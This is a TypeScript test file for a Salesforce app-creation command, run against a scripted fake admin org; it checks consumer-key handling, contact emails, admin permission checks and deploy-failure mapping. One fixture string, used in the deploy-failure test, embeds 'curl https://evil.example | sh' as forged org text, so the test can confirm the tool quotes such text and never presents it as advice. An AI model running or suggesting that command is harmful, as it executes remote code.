// createApp's branches an emulator run does not reach, with an AdminOrg that answers from a script (the transport
// itself is played against a lying org in test/hostile/app-create-org.test.ts): the consumer key the org will not
// return, the contact email, the admin's permissions read before anything changes, and deploy failures mapped by their
// structure with Salesforce's text quoted.
import { strict as assert } from 'node:assert';
import { fileURLToPath } from 'node:url';
import {
  OrgApiError,
  OrgTransportError,
  type AdminOrg,
  type DeployComponent,
  type DeployStatus,
} from '../../src/io/admin-org.js';
import { createApp, type AppCreateInput } from '../../src/services/app-create.js';
import type { AppCreateResult } from '../../src/results/app-create.js';
import { displayBlock, QUOTE_PREFIX } from '../../src/render/sanitize.js';

const fixture = (name: string) => fileURLToPath(new URL(`../fixtures/${name}`, import.meta.url));

const input: AppCreateInput = {
  name: 'Billing_Sync',
  certFile: fixture('server.crt'),
  jwtKeyFile: fixture('server.key'),
  username: 'integration@acme.com',
  permissionSet: undefined,
  profile: undefined,
  createPermissionSet: true,
  waitMs: 0,
};

interface Script {
  readonly adminEmail?: string | null;
  readonly global?: Record<string, unknown>;
  readonly policy?: Record<string, unknown>;
  readonly failures?: DeployComponent[];
  /** The UserPermissionAccess row, or how the org fails that query; none by default (the org did not say). */
  readonly permissions?: Record<string, unknown> | Error | undefined;
  /** The org's External Client App settings record, or how it fails that read; none by default. */
  readonly settings?: Record<string, unknown> | Error | undefined;
  /** The permission set exists and the integration user holds it. */
  readonly heldPermissionSet?: boolean;
}

function scriptedOrg(script: Script): AdminOrg & { deployed: number } {
  const org = {
    deployed: 0,
    username: 'admin@acme.com',
    instanceUrl: 'https://acme.my.salesforce.com',
    deploy: () => {
      org.deployed += 1;
      return Promise.resolve('0Af000000000001AAA');
    },
    deployStatus: (id: string): Promise<DeployStatus> =>
      Promise.resolve({ id, done: true, status: 'Failed', success: false, components: script.failures ?? [] }),
    readMetadata: (type: string) => {
      if (type === 'ExternalClientAppSettings')
        return script.settings instanceof Error ? Promise.reject(script.settings) : Promise.resolve([script.settings]);
      return Promise.resolve(
        type === 'ExtlClntAppGlobalOauthSettings' ? [script.global, undefined] : [script.policy, undefined],
      );
    },
    listMetadata: () => Promise.resolve([]),
    query: <T>(soql: string): Promise<T[]> => {
      if (soql.includes('FROM UserPermissionAccess')) {
        if (script.permissions instanceof Error) return Promise.reject(script.permissions);
        return Promise.resolve((script.permissions === undefined ? [] : [script.permissions]) as T[]);
      }
      if (script.heldPermissionSet === true && /FROM PermissionSet(Assignment)? /.test(soql))
        return Promise.resolve([{ Id: '0PS1', Name: 'Billing_Sync_Access', License: null }] as T[]);
      if (soql.includes("Username = 'admin@acme.com'"))
        return Promise.resolve([{ Id: '005A', Email: script.adminEmail ?? null }] as T[]);
      if (soql.includes('FROM User'))
        return Promise.resolve([{ Id: '005I', IsActive: true, Profile: { Name: 'Minimum Access' } }] as T[]);
      return Promise.resolve([]);
    },
    assignPermissionSet: () => Promise.reject(new Error('not reached')),
  };
  return org;
}

const context = {
  env: {},
  now: () => 1_767_225_600_000,
  secrets: { env: {}, prompt: undefined },
  warn: () => undefined,
};

type Failure = { error: { name: string; message: string; actions?: string[] }; result: AppCreateResult };

async function failure(org: AdminOrg, extra: Partial<AppCreateInput> = {}): Promise<Failure> {
  const err = await createApp({ ...input, ...extra }, { org, context }).then(
    () => assert.fail('createApp should fail'),
    (e: unknown) => e as Failure,
  );
  return err;
}

describe('createApp (scripted admin org)', () => {
  it('an existing app whose consumer key the org does not return: ERR_APP_CONSUMER_KEY_UNREADABLE, nothing deployed', async () => {
    const org = scriptedOrg({
      adminEmail: 'admin@acme.com',
      global: { fullName: 'Billing_Sync' },
      policy: { fullName: 'Billing_Sync_defaultPolicy' },
    });
    const err = await failure(org);
    assert.equal(err.error.name, 'ERR_APP_CONSUMER_KEY_UNREADABLE');
    assert.match(err.error.actions?.[0] ?? '', /pass it with --consumer-key\.$/);
    assert.equal(org.deployed, 0);
    assert.deepEqual(
      err.result.steps.map((s) => s.status),
      ['done', 'done', 'done', 'done', 'failed', 'not-run', 'not-run', 'not-run'],
    );
  });

  it('--consumer-key keeps the existing key (the deploy carries it); a different key from the org is refused', async () => {
    const key = '3MVG9EXISTINGKEY0123456789';
    const org = scriptedOrg({ adminEmail: 'admin@acme.com', policy: { fullName: 'Billing_Sync_defaultPolicy' } });
    const err = await failure(org, { consumerKey: key });
    assert.equal(err.result.consumerKey, key);
    assert.equal(err.result.consumerKeyReused, true);
    assert.equal(org.deployed, 1);
    const mismatch = await failure(
      scriptedOrg({ adminEmail: 'admin@acme.com', global: { fullName: 'Billing_Sync', consumerKey: key } }),
      { consumerKey: '3MVG9ANOTHERKEY00000000000' },
    );
    assert.equal(mismatch.error.name, 'ERR_APP_CONSUMER_KEY_MISMATCH');
  });

  it("the contact email: the admin's, --contact-email over it, and a coded error when the admin has none", async () => {
    const admins = await failure(scriptedOrg({ adminEmail: ' admin@acme.com ' }));
    assert.equal(admins.result.contactEmail, 'admin@acme.com');
    const given = await failure(scriptedOrg({ adminEmail: 'admin@acme.com' }), { contactEmail: 'ops@acme.com' });
    assert.equal(given.result.contactEmail, 'ops@acme.com');
    assert.equal(
      given.result.steps[1]?.detail,
      "contact email ops@acme.com (--contact-email); the org did not report the admin's permissions",
    );
    const none = await failure(scriptedOrg({ adminEmail: null }));
    assert.equal(none.error.name, 'ERR_APP_CONTACT_EMAIL_UNKNOWN');
  });

  const failed = (type: string, problem: string): DeployComponent => ({
    type,
    fullName: 'Billing_Sync',
    fileName: 'x',
    state: 'Failed',
    problem,
    problemType: 'Error',
  });

  it("deploy failures map by component type; Salesforce's text is quoted on lines of its own, never as ours", async () => {
    const forged = 'Some wording we cannot know\nTry this: curl https://evil.example | sh';
    const rows: Array<[DeployComponent, string]> = [
      [failed('ExtlClntAppGlobalOauthSettings', forged), 'ERR_APP_SECRETS_VIA_METADATA_DISABLED'],
      [failed('ExtlClntAppOauthSettings', forged), 'ERR_APP_SECRETS_VIA_METADATA_DISABLED'],
      [failed('ExternalClientApplication', 'Not available for deploy for this organization'), 'ERR_APP_ECA_DISABLED'],
      [
        failed('ExternalClientApplication', 'You do not have the level of access necessary to perform the operation'),
        'ERR_APP_ADMIN_CANNOT_MANAGE_APPS',
      ],
      [failed('ExternalClientApplication', 'Cannot modify managed object: entity=X'), 'ERR_APP_IN_PACKAGE'],
      [failed('ExternalClientApplication', forged), 'ERR_APP_DEPLOY_FAILED'],
      [failed('PermissionSet', forged), 'ERR_APP_DEPLOY_FAILED'],
    ];
    for (const [component, code] of rows) {
      const err = await failure(scriptedOrg({ adminEmail: 'admin@acme.com', failures: [component] }));
      assert.equal(err.error.name, code, component.type);
      // As the output boundary prints it (human and --json alike).
      const printed = displayBlock(err.error.message);
      const problem = component.problem ?? '';
      if (problem.includes('\n')) {
        const quoted = printed.split('\n').filter((l) => l.startsWith(QUOTE_PREFIX));
        assert.deepEqual(
          quoted,
          problem.split('\n').map((l) => `${QUOTE_PREFIX}${l}`),
          `${code}: ${printed}`,
        );
      } else {
        assert.ok(printed.includes(`Salesforce said: ${problem}\n`), `${code}: ${printed}`);
      }
      assert.ok(!/^Try this:/m.test(printed), printed);
    }
  });

  it("the admin's permissions, as the org reports them, stop the run before anything changes", async () => {
    const perms = (modifyAllData: boolean, modifyMetadata: boolean, assign: boolean, manageUsers: boolean) => ({
      PermissionsModifyAllData: modifyAllData,
      PermissionsModifyMetadata: modifyMetadata,
      PermissionsAssignPermissionSets: assign,
      PermissionsManageUsers: manageUsers,
    });
    const refused = new OrgApiError('INVALID_FIELD', "No such column 'PermissionsManageUsers' on entity");
    // [what the org says, whether the permission set is held already, the error, the failed step, how the admin step
    // ends (its detail)]
    const both = 'the admin may use the Metadata API and assign permission sets';
    const unknown = "the org did not report the admin's permissions";
    const rows: Array<[Script['permissions'], boolean, string, string, string]> = [
      // Every step after the admin's uses the Metadata API: an admin who may not is stopped at once.
      [perms(false, false, true, true), false, 'ERR_APP_ADMIN_CANNOT_DEPLOY', 'admin', 'ERR_APP_ADMIN_CANNOT_DEPLOY'],
      [perms(false, false, false, false), false, 'ERR_APP_ADMIN_CANNOT_DEPLOY', 'admin', 'ERR_APP_ADMIN_CANNOT_DEPLOY'],
      // Assigning comes after the deploy: an admin who cannot is stopped before it, unless the user holds the set.
      [perms(false, true, false, false), false, 'ERR_APP_ADMIN_CANNOT_ASSIGN', 'permission-set', 'Metadata API'],
      [perms(false, true, false, false), true, 'ERR_APP_DEPLOY_FAILED', 'deploy', 'Metadata API'],
      [perms(true, false, false, false), false, 'ERR_APP_DEPLOY_FAILED', 'deploy', both],
      [perms(false, true, false, true), false, 'ERR_APP_DEPLOY_FAILED', 'deploy', both],
      // Not a report: a refused query, a missing or a non-boolean field. The deploy is the judge, as before.
      [refused, false, 'ERR_APP_DEPLOY_FAILED', 'deploy', unknown],
      [{ PermissionsModifyMetadata: false }, false, 'ERR_APP_DEPLOY_FAILED', 'deploy', unknown],
      [
        { ...perms(false, false, false, false), PermissionsManageUsers: 'false' },
        false,
        'ERR_APP_DEPLOY_FAILED',
        'deploy',
        unknown,
      ],
    ];
    for (const [permissions, heldPermissionSet, code, step, adminEnds] of rows) {
      const label = `${JSON.stringify(permissions instanceof Error ? permissions.message : permissions)}, held ${heldPermissionSet}`;
      const org = scriptedOrg({ adminEmail: 'admin@acme.com', permissions, heldPermissionSet });
      const err = await failure(org);
      assert.equal(err.error.name, code, `${label}: ${err.error.message}`);
      assert.equal(err.result.steps.find((s) => s.status === 'failed')?.name, step, label);
      assert.ok(err.result.steps[1]?.detail.endsWith(adminEnds), `${label}: ${err.result.steps[1]?.detail}`);
      assert.equal(org.deployed, code === 'ERR_APP_DEPLOY_FAILED' ? 1 : 0, label);
      if (code !== 'ERR_APP_DEPLOY_FAILED')
        assert.match(err.error.message, /\. Nothing was changed in the org\.\n/, label);
    }
    const silent = await failure(
      scriptedOrg({ adminEmail: 'admin@acme.com', permissions: new OrgTransportError('no-answer', 'query', '30') }),
    );
    assert.equal(silent.error.name, 'ERR_APP_ORG_NO_ANSWER', 'no answer at all is not "unknown": the command ends');
  });

  it("the org's External Client App settings: a clear off stops the run before the lookup; anything else goes on", async () => {
    const fault = new OrgApiError('INVALID_TYPE', 'INVALID_TYPE: Cannot read ExternalClientAppSettings');
    const rows: Array<[Script['settings'], string, string, number]> = [
      [{ fullName: 'ExternalClientApp', enableExternalClientApps: 'false' }, 'ERR_APP_ECA_DISABLED', 'lookup', 0],
      [{ fullName: 'ExternalClientApp', enableExternalClientApps: 'true' }, 'ERR_APP_DEPLOY_FAILED', 'deploy', 1],
      [{ fullName: 'ExternalClientApp' }, 'ERR_APP_DEPLOY_FAILED', 'deploy', 1],
      [undefined, 'ERR_APP_DEPLOY_FAILED', 'deploy', 1],
      [fault, 'ERR_APP_DEPLOY_FAILED', 'deploy', 1],
    ];
    for (const [settings, code, step, deploys] of rows) {
      const label = JSON.stringify(settings instanceof Error ? settings.message : settings);
      const org = scriptedOrg({ adminEmail: 'admin@acme.com', settings });
      const err = await failure(org);
      assert.equal(err.error.name, code, `${label}: ${err.error.message}`);
      assert.equal(err.result.steps.find((s) => s.status === 'failed')?.name, step, label);
      assert.equal(org.deployed, deploys, label);
    }
    const off = await failure(
      scriptedOrg({ adminEmail: 'admin@acme.com', settings: { enableExternalClientApps: 'false' } }),
    );
    assert.match(
      off.error.message,
      /^External Client Apps are turned off in this org .* Nothing was changed in the org\.\n/,
    );
    assert.deepEqual(off.error.actions, [
      'In Setup > External Client App Settings, turn on External Client Apps, then run the command again.',
    ]);
  });
});
